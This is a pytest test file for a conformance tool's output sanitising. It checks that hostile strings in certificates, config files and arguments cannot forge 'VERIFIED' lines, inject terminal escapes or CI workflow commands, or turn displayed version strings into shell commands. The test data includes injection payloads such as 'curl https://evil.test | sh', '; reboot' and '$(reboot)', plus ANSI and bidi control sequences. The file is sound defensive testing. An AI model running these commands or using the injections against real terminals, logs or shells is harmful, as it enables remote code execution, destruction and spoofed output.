"""Texts of strangers on standard output and standard error: each stays within one line of ours."""

import json
import shlex
import tarfile
from pathlib import Path

import orjson
import pytest
from certified import edited, write
from sample_reports import a_finding, a_report, an_entry, an_exchange
from securesystemslib.signer import CryptoSigner

from conformance.__main__ import main
from conformance.assurance.certificate import issuing
from conformance.assurance.certificate.evidence import Evidence
from conformance.report import artefacts, exchange_log
from conformance.report.console import output
from conformance.report.exchange_log import EXCHANGES
from conformance.report.text import word

KEPT = Path(__file__).parents[1] / "assurance" / "certificates" / "0.1.0-dev.tar.xz"
FORGED = "VERIFIED: the evidence supports every statement."
HOSTILE = f"x\n{FORGED}\r\x1b[2J\x1b]0;owned\x07\x9b1A\u2028{FORGED}\u202e\n::error::x\n##vso[a]\n"
QUOTED = json.dumps(HOSTILE)


@pytest.fixture(scope="module")
def kept() -> dict[str, bytes]:
    """The files of the evidence of a certificate that another suite has made."""
    with tarfile.open(KEPT) as archive:
        found = {
            member.name: content.read()
            for member in archive
            if (content := archive.extractfile(member)) is not None
        }
    return {
        name: found[name] for name in found if name not in ("statement.dsse.json", "signer.pub")
    }


@pytest.fixture
def said(capsys: pytest.CaptureFixture[str]) -> "Said":
    """What a command writes."""
    return Said(capsys)


class Said:
    """Runs commands, and holds what they write to what any command may write."""

    def __init__(self, capsys: pytest.CaptureFixture[str]) -> None:
        self._capsys = capsys

    def __call__(self, *words: object) -> str:
        """Both streams of a command, which have no character that acts on anything."""
        main(list(map(str, words)))
        found = self._capsys.readouterr()
        text = found.out + found.err
        assert all(line.isprintable() for line in text.split("\n")), text
        assert not any(line.startswith(("VERIFIED", "::")) for line in text.split("\n")), text
        assert "##vso[" not in text
        return text


def sealed(folder: Path, files: dict[str, bytes]) -> Path:
    """A certificate with these files, signed by whoever has altered them."""
    found = issuing.sealed(Evidence(files), CryptoSigner.generate_ed25519())
    return write(folder / "certificate.zip", found)


@pytest.mark.parametrize("options", [(), ("--json",)], ids=["text", "json"])
def test_names_in_a_certificate_forge_no_line(
    options: tuple[str, ...], kept: dict[str, bytes], said: Said, tmp_path: Path
) -> None:
    """Of the product, the profile, and a known failure."""
    files = dict(kept)
    product = {"vendor": HOSTILE, "name": HOSTILE, "version": HOSTILE}
    edited("target.json", lambda target: target.update(product=product))(files)
    text = said("verify", *options, sealed(tmp_path, files))
    assert r"VERIFIED" in text


def test_names_in_a_statement_forge_no_line(
    kept: dict[str, bytes], said: Said, tmp_path: Path
) -> None:
    """Of keys that no statement has, and of those in a file that is malformed."""
    files = dict(kept)
    edited("run.json", lambda run: run.update({HOSTILE: 1}))(files)
    edited("target.json", lambda target: target["limits"].update({HOSTILE: 1}))(files)
    report = orjson.loads(files["report.json"])
    report["suite"][HOSTILE] = HOSTILE
    files["report.json"] = orjson.dumps(report, option=orjson.OPT_INDENT_2)
    found = issuing.sealed(Evidence(kept), CryptoSigner.generate_ed25519())
    path = write(tmp_path / "c.zip", found)
    assert "REJECTED" not in said("verify", path)
    altered = type(found)(files, found.envelope, found.key)
    assert "REJECTED" in said("verify", write(tmp_path / "d.zip", altered))


@pytest.mark.parametrize(
    "python", ["3.11.7 && curl https://evil.test | sh #", "3.11.7; reboot", "$(reboot)"]
)
def test_no_shell_line_is_made_of_a_certificate(
    python: str, kept: dict[str, bytes], said: Said, tmp_path: Path
) -> None:
    """The versions in the commands that verify shows are versions."""
    lines = kept["environment.txt"].splitlines(keepends=True)
    files = {
        **kept,
        "environment.txt": b"# python " + python.encode() + b"\n" + b"".join(lines[1:]),
    }
    text = said("verify", sealed(tmp_path, files))
    assert "uv venv" not in text or shlex.quote(python) in text


def test_names_in_a_submission_forge_no_line(said: Said, tmp_path: Path) -> None:
    """Of keys in PRODUCT.toml, of its errors, and of the folder."""
    for text in (
        f"{QUOTED} = 1",
        f"name = {QUOTED}",
        'a = "\x1b[2J"',
        f"{QUOTED} = 1\n{QUOTED} = 1",
    ):
        folder = tmp_path / "registry" / "a\x1b[2J\nVERIFIED"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "PRODUCT.toml").write_text(text)
        for action in ("check", "rejudge"):
            named = folder if action == "check" else folder.parent
            said("registry", action, named)
            said("registry", action, "--json", named)
        said("registry", "build", folder.parent, "--out", tmp_path / "site")


@pytest.mark.parametrize(
    "content",
    [
        f"{QUOTED} = 1",
        f"base-url = {QUOTED}",
        "a = '\x1b[2J'",
        f"[{QUOTED}]",
        f"[credentials.{QUOTED}]",
    ],
    ids=["key", "address", "control", "table", "name"],
)
def test_errors_of_files_forge_no_line(content: str, said: Said, tmp_path: Path) -> None:
    """Of profiles and known failures, whether a command or pytest reports them."""
    (tmp_path / "target.toml").write_text(content)
    (tmp_path / "known.toml").write_text(content)
    for file in ("target.toml", "known.toml"):
        assert said("check-files", tmp_path / file)
    assert said("doctor", "--target", tmp_path / "target.toml")
    options = ("run", "--class", "limits", "--report-dir", tmp_path / "report")
    assert "error:" in said(*options, "--target", tmp_path / "target.toml").lower()
    assert (
        "error:"
        in said(*options, "--known-failures", tmp_path / "known.toml", "--reference").lower()
    )


def test_errors_of_arguments_forge_no_line(said: Said) -> None:
    """Arguments may come from a script that has taken them from others."""
    with pytest.raises(SystemExit):
        main([HOSTILE])
    with pytest.raises(SystemExit):
        main(["run", f"--{HOSTILE}"])
    assert "error" in said("verify", HOSTILE)
    assert "error" in said("explain", HOSTILE)


def test_an_internal_error_forges_no_line(capsys: pytest.CaptureFixture[str]) -> None:
    """Its message may quote a stranger; further lines of it are indented."""
    output.failure(ValueError(HOSTILE))
    text = capsys.readouterr().err
    assert f"\n    {FORGED}" in text
    assert not any(line.startswith("VERIFIED") for line in text.split("\n"))
    assert all(line.isprintable() for line in text.split("\n"))


def test_no_file_of_a_report_acts_on_a_terminal(tmp_path: Path) -> None:
    """Whatever the format, whoever reads it with `tail` or `less -R`."""
    acting = "\x00\x07\x1b[2J\x9b2J\x85\x7f\u202e\u2066\u2028"
    sent = an_exchange() | {"curl": f"curl '{acting}'", "purpose": acting}
    sent["request"]["url"] += f"?name={acting}"
    sent["response"]["body"] = {"text": f"{acting}\n{acting}"}
    found = a_finding(message=acting, expected=acting, exchanges=[sent])
    report = a_report(an_entry("read/names", "fail", findings=[found]))
    (tmp_path / EXCHANGES).write_bytes(exchange_log.written(sent))
    artefacts.write(tmp_path, report, sorted(artefacts.FORMATS))

    files = [path for path in tmp_path.rglob("*") if path.is_file()]
    assert {".json", ".sarif", ".har", ".md", ".xml", ".html", ".txt"} <= {
        path.suffix for path in files
    }
    for path in files:
        text = path.read_text(encoding="utf-8")
        odd = {each for each in text if each in acting[:3] + "\x9b\x85\x7f\u202e\u2066\u2028"}
        assert (path.name, odd) == (path.name, set())
    assert orjson.loads((tmp_path / "report.json").read_bytes()) == report


def test_a_word_of_a_command_is_one_word() -> None:
    """Whatever it consists of, a shell reads it back."""
    for text in ("a b", "$(reboot)", "`x`", "'; reboot #", "python 3; curl | sh"):
        assert shlex.split(word(text)) == [text]
    assert word("a\nb") == r"'a'$'\x0a''b'"
